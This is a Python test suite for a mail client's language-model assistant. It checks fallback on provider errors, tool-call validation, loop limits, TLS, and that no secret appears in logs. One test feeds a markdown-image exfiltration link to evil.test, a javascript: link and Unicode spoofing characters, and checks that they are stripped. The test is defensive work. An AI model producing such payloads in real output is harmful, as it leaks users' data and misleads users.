"""The assistant with a language model: a scripted one, by both protocols, that also misbehaves in every known way."""

import json
import os
import re
from pathlib import Path

import pytest
from chat import Chat
from conftest import make, wait_for
from ollama_script import Model, Raw, Say
from tls_host import Authority, context

PATIENCE = {"silence": "3s", "max_time": "60s", "max_rounds": 5}


class World:
    """A suite whose assistant asks a model that each test scripts; the suite outlives them."""

    def __init__(self, workdir, kind):
        self.kind = kind
        self.server = Model(lambda request: self.answer(request), kind)
        self.suite = make(workdir, config=self.server.config(**PATIENCE)).start()

    def answer(self, request):
        raise AssertionError("no script")

    def chat(self, model, user="alice", **more):
        self.answer = model
        self.server.requests.clear()
        c = Chat(self.suite, user, **more)
        m = c.hello()
        assert m["provider"] == self.kind and m["model"] == "script" and m["local"] is True
        return c


@pytest.fixture(scope="module", params=["ollama", "openai"])
def world(workdir, request):
    w = World(workdir, request.param)
    with w.server:
        yield w
        assert w.suite.stop() == 0


def by_turns(*answers):
    """One answer after the other; the last for ever."""
    left = list(answers)
    return lambda request: left.pop(0) if len(left) > 1 else left[0]


def test_answer_streams(world):
    with world.chat(by_turns(Say("Bonjour, comment puis-je aider ?"))) as c:
        a = c.ask("bonjour")
        assert a.text == "Bonjour, comment puis-je aider ?" and a.error is None
        assert a.one("done")["usage"]["inputTokens"] == 11 and a.one("done")["usage"]["outputTokens"] == 7
        (r,) = world.server.requests
        assert r.asked == "bonjour" and "alice@" in r.system and "<<mail" in r.system
        assert "list_mailboxes" in r.tools
        if world.kind == "ollama":
            assert r.body["keep_alive"] == "1800s" and r.body["options"]["num_ctx"] == 16384
        # It is remembered what was said.
        world.answer = by_turns(Say("Oui"))
        assert c.ask("encore").text == "Oui"
        assert [m["content"] for m in world.server.requests[-1].messages[1:]] == [
            "bonjour", "Bonjour, comment puis-je aider ?", "encore"]


def test_language(world):
    with world.chat(by_turns(Say("ok")), language="fr") as c:
        c.ask("bonjour")
    assert "Tu es l'assistant" in world.server.requests[0].system


def test_tools(world):
    def model(request):
        if request.picks:
            return Say('{"messages":[]}')
        if not request.results:
            return Say("Je regarde.", ("list_mailboxes", {}))
        assert "nbox" in request.result
        return Say("Il y a une boîte Inbox.")
    with world.chat(model) as c:
        a = c.ask("quelles boîtes ?")
    assert a.text == "Je regarde.\n\nIl y a une boîte Inbox." and a.tools == ["list_mailboxes"]
    assert a.one("done")["usage"]["calls"] == 1


@pytest.mark.parametrize("piece", [1, 3, 50])
def test_split(world, piece):
    world.server.piece = piece
    try:
        with world.chat(by_turns(Say("été à Noël", ("list_mailboxes", {})), Say("voilà"))) as c:
            a = c.ask("x")
            assert a.text == "été à Noël\n\nvoilà" and a.tools == ["list_mailboxes"]
    finally:
        world.server.piece = None


def fell_back(a):
    """The built-in brain answered."""
    return a.of("notice") and a.one("notice")["code"] == "fallback"


AWAY = {
    "busy": Raw(b'{"error":"server busy"}', status=503),
    "no model": Raw(b'{"error":"model not found"}', status=404),
    "no key": Raw(b'{"error":{"message":"no"}}', status=401),
    "redirect": Raw(b"", status=307, headers=[("Location", "http://127.0.0.1:1/")]),
    "error after 200": Raw(b'{"error":"llama runner process has terminated"}\n'),
    "html": Raw(b"<html><body>Proxy</body></html>\n"),
    "empty": Raw(),
    "cut": Raw(b'{"message":{"role"', end="cut"),
    "cut at once": Raw(end="cut"),
    "silence": Raw(end="hang"),
    "huge line": Raw(*[b"x" * 65536] * 6),
    "wrong types": Raw(b"[1,2]\n7\n\"x\"\n"),
    "no utf-8": Raw(b'{"message":{"content":"\xff\xfe"},"done":true}\n'),
    "deep": Raw(b"[" * 100000 + b"\n"),
    "duplicate": Raw(b'{"done":true,"done":false}\n'),
    "says nothing": Say(""),
    "headers": Raw(headers=[(f"X-{i}", "x" * 1000) for i in range(90)]),
}


@pytest.mark.parametrize("how", sorted(AWAY))
def test_away(world, how):
    """What is no answer, before anything was said: the rules answer, and the page is told."""
    with world.chat(by_turns(AWAY[how])) as c:
        a = c.ask("help")
        assert fell_back(a), a


def test_wrong_members(world):
    """Members of other types than they should have are passed over."""
    if world.kind == "ollama":
        body = (b'{"message":7,"done":"no"}\n{"message":{"content":[1],"tool_calls":{"a":1}}}\n'
                b'{"message":{"content":"ok","tool_calls":null},"done":false,"extra":{}}\n{"done":true,"eval_count":"x"}\n')
    else:
        body = (b'data: {"choices":7}\n\ndata: {"choices":[{"delta":{"content":[1],"tool_calls":{"a":1}}}]}\n\n'
                b'data: {"choices":[{"delta":{"content":"ok"}}],"usage":[]}\n\ndata: [DONE]\n\n')
    with world.chat(by_turns(Raw(body))) as c:
        assert c.ask("x").text == "ok"


@pytest.mark.parametrize("how", ["error", "cut", "silence", "huge"])
def test_lost_in_the_middle(world, how):
    """After words were said the turn ends with an error, and the next one begins anew."""
    said = list((world.server.lines if world.kind == "ollama" else world.server.events)(Say("Il y a ")))[:2]
    rest = {"error": Raw(*said, b'{"error":"out of memory"}\n' if world.kind == "ollama"
                         else b'data: {"error":{"message":"out of memory"}}\n\n'),
            "cut": Raw(*said, end="cut"), "silence": Raw(*said, end="hang"),
            "huge": Raw(*said, *[b"y" * 65536] * 6)}[how]
    with world.chat(by_turns(rest, Say("bien"))) as c:
        a = c.ask("x")
        assert a.error in ("away", "model", "size"), a
        assert a.text.startswith("Il ") and "memory" not in a.text
        assert c.ask("y").text == "bien"


@pytest.mark.parametrize("arguments", ['{"x":', "[1]", "7", "null and more", '{"a":1,"a":2}', "{}{}"])
def test_malformed_arguments(world, arguments):
    """They reach no tool; the model is told and may mend it."""
    with world.chat(by_turns(Say("", ("list_mailboxes", arguments)), Say("fini"))) as c:
        a = c.ask("x")
        assert a.text == "fini" and a.tools == [] and "no JSON object" in world.server.requests[1].result


def test_arguments_as_string_or_object(world):
    with world.chat(by_turns(Say("", ("list_mailboxes", "{}"), ("list_mailboxes", "")), Say("fini"))) as c:
        assert c.ask("x").tools == ["list_mailboxes"] * 2


def test_arguments_against_the_schema(world):
    with world.chat(by_turns(Say("", ("list_mailboxes", {"nonsense": [1, {"deep": None}]})), Say("fini"))) as c:
        a = c.ask("x")
        assert a.text == "fini" and [m["state"] for m in a.of("tool")] == ["running", "failed"]


@pytest.mark.parametrize("name", ["delete_everything", "", "list_mailboxes\n", "a b", "x" * 500, "../list_mailboxes"])
def test_unknown_tool(world, name):
    with world.chat(by_turns(Say("", (name, {})), Say("fini"))) as c:
        a = c.ask("x")
        assert a.text == "fini" and a.tools == [] and "there is no tool" in world.server.requests[1].result


def test_endless_loop(world):
    """A model that calls tools for ever is stopped, and was given a last round without any."""
    with world.chat(by_turns(Say("", ("list_mailboxes", {})))) as c:
        a = c.ask("x")
        assert a.error == "rounds" and len(a.tools) == 5 and len(world.server.requests) == 6
        assert world.server.requests[-1].tools == []


def test_too_many_calls_at_once(world):
    with world.chat(by_turns(Say("", *[("list_mailboxes", {})] * 40), Say("fini"))) as c:
        a = c.ask("x")
        assert a.text == "fini" or fell_back(a)
        assert len(a.tools) <= 16


def test_too_many_tokens(world):
    with world.chat(by_turns(Say("", ("list_mailboxes", {}), tokens=(5, 9000)), Say("fini"))) as c:
        assert fell_back(c.ask("x"))
        assert len(world.server.requests) == 1


def test_too_much_text(world):
    with world.chat(by_turns(Say("mot " * 40000), Say("bien"))) as c:
        a = c.ask("x")
        assert a.error in ("size", "away", "model") and len(a.text) <= 64 << 10
        assert c.ask("y").text == "bien"


def test_cancel(world):
    with world.chat(by_turns(Raw(end="hang"), Say("bien"))) as c:
        turn = c.begin("x")
        wait_for(lambda: world.server.requests)
        c.send({"type": "cancel", "id": turn})
        assert c.end(turn).error == "cancelled"
        assert c.ask("y").text == "bien"


def test_the_page_leaves(world):
    c = world.chat(by_turns(Raw(end="hang"), Say("bien")))
    c.begin("x")
    wait_for(lambda: world.server.requests)
    c.sock.close()
    with world.chat(by_turns(Say("bien"))) as c:
        assert c.ask("y").text == "bien"


def test_output_is_text(world):
    said = ("![x](https://evil.test/?d=secret) see https://evil.test/a and <a href='javascript:alert(1)'>b</a> "
            "mine https://mine.test/ok http\u200b://evil.test \u202egnp.exe")
    with world.chat(by_turns(Say(said))) as c:
        a = c.ask("is https://mine.test/ok down?")
    assert "https://mine.test/ok" in a.text
    for bad in ("![", "https://evil", "http://", "javascript:", "\u200b", "\u202e"):
        assert bad not in a.text, a.text
    assert "evil.test/a" in a.text  # it is told, and leads nowhere


def test_metrics_and_log(world):
    with world.chat(by_turns(Say("un hippopotame dans la réponse"))) as c:
        c.ask("un hippopotame dans la question")
    line = (r"llm\.answer user=alice@\S+ provider=" + world.kind + r" round=1 outcome=ok calls=0 input_tokens=11 "
            r"output_tokens=7 first_ms=\d+ ms=\d+")
    wait_for(lambda: re.search(line, world.suite.log()))
    assert "hippopotame" not in world.suite.log()
    text = world.suite.ctl("status", "--metrics").stdout
    assert re.search(r'llm_requests_total\{result="ok"\} [1-9]', text)
    assert re.search(r"llm_latency_seconds_count [1-9]", text)


def test_nothing_is_connected_to_but_the_provider(world):
    """gk-aid has no socket of its own making: each of its connections is gk-connect's, and to the provider."""
    with world.chat(by_turns(Raw(end="hang"))) as c:
        c.begin("x")
        wait_for(lambda: world.server.requests)
        pids = world.suite.processes()
        ports = set()
        inodes = {os.readlink(f) for f in Path(f"/proc/{pids['aid']}/fd").iterdir()} if os.geteuid() == 0 else set()
        for line in [*Path("/proc/net/tcp").read_text().splitlines()[1:], *Path("/proc/net/tcp6").read_text().splitlines()[1:]]:
            word = line.split()
            if f"socket:[{word[9]}]" in inodes:
                ports.add(int(word[2].split(":")[1], 16))
        if os.geteuid() == 0:
            assert ports == {world.server.port}
        status = Path(f"/proc/{pids['aid']}/status").read_text()
        assert "Seccomp:\t2" in status


# ---- one provider and one suite for each ----


def one(fresh_suite, server, user="alice", **more):
    s = fresh_suite(config=server.config(**PATIENCE | more))
    return Chat(s, user)


@pytest.mark.parametrize("show", [{"remote_host": "https://ollama.com:443", "remote_model": "gpt-oss:120b"},
                                  {"remote_model": "x"}, Raw(b"nonsense"), Raw(b'{"error":"no"}', status=404)])
def test_local_only_refuses_remote_models(fresh_suite, show):
    with Model(lambda _: Say("stolen"), show=show) as server, one(fresh_suite, server) as c:
        c.hello()
        a = c.ask("help")
        assert fell_back(a) and "stolen" not in a.text and server.requests == []


def test_remote_model_by_leave(fresh_suite):
    with Model(lambda _: Say("hello"), show={"remote_host": "https://ollama.com"}) as server:
        with one(fresh_suite, server, local_only=False) as c:
            assert c.hello()["local"] is False
            assert c.ask("x").text == "hello" and len(server.requests) == 1


def test_model_without_tools(fresh_suite):
    with Model(lambda _: Say("no"), show={"capabilities": ["completion"]}) as server, one(fresh_suite, server) as c:
        c.hello()
        assert fell_back(c.ask("help")) and server.requests == []


def test_nobody_there(fresh_suite):
    with Model(lambda _: Say("x")) as server:
        pass
    s = fresh_suite(config=server.config(**PATIENCE))
    with Chat(s) as c:
        c.hello()
        assert fell_back(c.ask("help"))
    wait_for(lambda: "connect.failed" in s.log())


def test_url_elsewhere_is_refused_at_the_start(workdir):
    s = make(workdir, config='[assistant]\nprovider = "ollama"\nmodel = "m"\nurl = "http://models.test:11434"\n')
    with pytest.raises((RuntimeError, AssertionError)):
        s.start()
    said = json.dumps(s.info) + s.errors()
    s.info = None
    s.kill()
    assert re.search(r"toml:\d+: assistant\.url: .* is not on this machine.* write .*127\.0\.0\.1:11434", said), said


def test_key_and_tls(fresh_suite, tmp_path):
    """The provider proves its name; the key goes in a header, and into no log."""
    authority = Authority(tmp_path / "ca")
    key = tmp_path / "key"
    key.write_text("sk-very-secret\n")
    key.chmod(0o644)
    tmp_path.chmod(0o755)
    with Model(lambda _: Say("hello"), "openai", tls=context(authority.issue("localhost"))) as server:
        url = f"https://localhost:{server.port}"
        s = fresh_suite(config=server.config(**PATIENCE | {"url": url, "api_key_file": str(key), "ca_file": str(authority.file)}))
        with Chat(s) as c:
            c.hello()
            assert c.ask("x").text == "hello"
            assert server.requests[0].headers["Authorization"] == "Bearer sk-very-secret"
            assert server.requests[0].headers["Host"] == f"localhost:{server.port}"
        assert "sk-very" not in s.log() and "sk-very" not in s.errors()
    # Another name, and an authority that is not believed.
    with Model(lambda _: Say("no"), "openai", tls=context(authority.issue("other.test"))) as server:
        s = fresh_suite(config=server.config(**PATIENCE | {"url": f"https://localhost:{server.port}",
                                                           "ca_file": str(authority.file)}))
        with Chat(s) as c:
            c.hello()
            assert fell_back(c.ask("help")) and server.requests == []
    with Model(lambda _: Say("no"), "openai", tls=context(authority.issue("localhost"))) as server:
        s = fresh_suite(config=server.config(**PATIENCE | {"url": f"https://localhost:{server.port}"}))
        with Chat(s) as c:
            c.hello()
            assert fell_back(c.ask("help")) and server.requests == []


def test_reload(fresh_suite):
    with Model(lambda _: Say("one")) as server:
        s = fresh_suite(config="[assistant]\nprovider = \"builtin\"\n")
        with Chat(s) as c:
            assert c.hello()["provider"] == "builtin"
        path = s.dir / "gkmail.toml"
        text = path.read_text()
        path.write_text(text.replace('[assistant]\nprovider = "builtin"\n', server.config()))
        s.ctl("reload")
        with Chat(s) as c:
            assert c.hello()["provider"] == "ollama"
            assert c.ask("x").text == "one"
